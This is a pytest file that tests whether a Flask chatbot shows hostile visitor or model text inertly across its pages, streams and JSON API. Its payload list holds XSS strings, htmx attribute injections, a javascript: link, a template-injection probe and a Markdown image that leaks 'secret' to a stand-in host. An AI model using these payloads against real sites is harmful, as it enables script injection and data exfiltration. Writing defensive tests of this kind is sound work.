"""Improper output handling (OWASP LLM05): hostile text is inert wherever text is shown.

Data-driven: PLACES says, one line each, how hostile text gets in (a visitor types it, the
model writes it, ...) and where it is read back (the live answer, a page after reload, the
API). A place added later (suggestions, the visitor's name, the owner's page, the contact
confirmation, the export) is one more line, built from the same `put` and `read` helpers.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from chatbot.rendering import render_markdown

from fake_openai import FakeOpenAI
from helpers import HTMX, HTMX_STREAM, assert_inert, csrf_token, parse, sse_data

MARK = "H0STILE"  # in every payload's visible text: proves the place showed it
HOSTILE = [
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert(1)>{MARK}",
    f"<div hx-get=/x hx-trigger=load>{MARK}</div>",
    f'<a data-hx-post="/chat/messages" href="#">{MARK}</a>',
    f"![{MARK}](https://evil.example/?q=secret)",
    f"[{MARK}](javascript:alert(1))",
    f'"><svg onload=alert(1)>{MARK}',
    f"</textarea><script>alert(1)</script>{MARK}",
    f"<iframe src=https://evil.example></iframe>{MARK}",
    f"<style>body{{display:none}}</style>{MARK}",
    f"{MARK} {{{{ 7*7 }}}} {{% raw %}}",
    f"<hx-partial hx-target=body hx-swap=innerHTML>{MARK}</hx-partial>",
]


@dataclass
class Ctx:
    """What a place needs: a client of the app and the fake model behind it."""

    app: Flask
    client: FlaskClient
    fake: FakeOpenAI


Put = Callable[[Ctx, str], Any]  # puts hostile text in; returns the response it got
Read = Callable[[Ctx, Any], list[str]]  # the HTML fragments shown for it


def post_message(ctx: Ctx, text: str, headers: dict[str, str]) -> Any:
    return ctx.client.post("/chat/messages", headers=headers, data={
        "message": text, "csrf_token": csrf_token(ctx.client)})


# -- how hostile text gets in -------------------------------------------------------------

def visitor_says(headers: dict[str, str]) -> Put:
    """The visitor types it."""
    return lambda ctx, text: post_message(ctx, text, headers)


def model_says(headers: dict[str, str]) -> Put:
    """The model writes it, in answer to an ordinary question."""
    def put(ctx: Ctx, text: str) -> Any:
        ctx.fake.reply = text
        return post_message(ctx, "What does she build?", headers)
    return put


def model_says_on_retry(headers: dict[str, str]) -> Put:
    """The model fails (a fallback reply), then writes it when the visitor retries."""
    def put(ctx: Ctx, text: str) -> Any:
        ctx.fake.fail_next("auth")
        post_message(ctx, "What does she build?", {})
        store = ctx.app.extensions["chatbot"].store
        fallback = store.messages(store_conversation(ctx))[-1]
        ctx.fake.reply = text
        return ctx.client.post("/chat/retry", headers=headers, data={
            "reply_id": str(fallback.id), "csrf_token": csrf_token(ctx.client)})
    return put


def too_long_message(ctx: Ctx, text: str) -> Any:
    """The visitor types too much: the page comes back with their draft."""
    limit = ctx.app.config["CHATBOT_MAX_MESSAGE_CHARS"]
    return post_message(ctx, text + "x" * limit, {})


def api_says(stream: bool) -> Put:
    """The model writes it, asked through the JSON API."""
    def put(ctx: Ctx, text: str) -> Any:
        ctx.fake.reply = text
        return ctx.client.post("/api/chatbot", json={"message": "Hi", "stream": stream})
    return put


def store_conversation(ctx: Ctx) -> str:
    with ctx.client.session_transaction() as session:
        return str(session["conversation_id"])


# -- where it is shown --------------------------------------------------------------------

def live(ctx: Ctx, response: Any) -> list[str]:
    """The answer itself: an HTML page or partial, or each event of a stream."""
    body = response.get_data(as_text=True)
    if response.mimetype == "text/event-stream":
        return sse_data(body)
    assert response.mimetype == "text/html"
    return [body]


def page(path: str) -> Read:
    """A page opened afterwards (a reload), once the answer has been read to its end."""
    def read(ctx: Ctx, response: Any) -> list[str]:
        response.get_data()
        return [ctx.client.get(path).get_data(as_text=True)]
    return read


def api_reply(ctx: Ctx, response: Any) -> list[str]:
    """A JSON reply: never sniffed as HTML, and its Markdown renders inert."""
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    body = response.get_data(as_text=True)
    if response.mimetype == "text/event-stream":
        done = [e for e in body.split("\n\n") if e.startswith("event: done")]
        reply = json.loads(done[0].split("data: ", 1)[1])["reply"]
    else:
        assert response.mimetype == "application/json"
        reply = response.get_json()["reply"]
    return [str(render_markdown(reply))]


@dataclass(frozen=True)
class Place:
    """Somewhere text is shown: how hostile text gets there, and how it is read back."""

    name: str
    put: Put
    read: Read


PLACES = [
    Place("visitor message, htmx answer", visitor_says(HTMX), live),
    Place("visitor message, streamed answer", visitor_says(HTMX_STREAM), live),
    Place("visitor message, transcript", visitor_says({}), page("/chat")),
    Place("visitor message, widget transcript", visitor_says(HTMX), page("/chat/widget")),
    Place("model reply, htmx answer", model_says(HTMX), live),
    Place("model reply, streamed answer", model_says(HTMX_STREAM), live),
    Place("model reply, transcript", model_says({}), page("/chat")),
    Place("model reply, widget transcript", model_says(HTMX_STREAM), page("/chat/widget")),
    Place("retried reply, htmx answer", model_says_on_retry(HTMX), live),
    Place("retried reply, streamed answer", model_says_on_retry(HTMX_STREAM), live),
    Place("retried reply, transcript", model_says_on_retry({}), page("/chat")),
    Place("composer draft after a refusal", too_long_message, live),
    Place("API reply", api_says(False), api_reply),
    Place("API streamed reply", api_says(True), api_reply),
    # Still to come, one line each once they exist: suggestions, the visitor's name, the
    # owner's page, the contact confirmation, the export.
]


@pytest.mark.parametrize("place", PLACES, ids=[p.name for p in PLACES])
def test_hostile_text_is_shown_inert(openai_app: Flask, fake_openai: FakeOpenAI,
                                     place: Place) -> None:
    for hostile in HOSTILE:  # one app for all of them: a fresh visitor each
        ctx = Ctx(openai_app, openai_app.test_client(), fake_openai)
        response = place.put(ctx, hostile)
        assert response.status_code < 500
        fragments = place.read(ctx, response)
        shown = " ".join(parse(f).get_text() for f in fragments)
        assert MARK in shown, ("the text was not shown", hostile)
        if "{{" in hostile:
            assert "7*7" in shown  # shown as typed: no template evaluated it
        for fragment in fragments:
            assert_inert(parse(fragment))
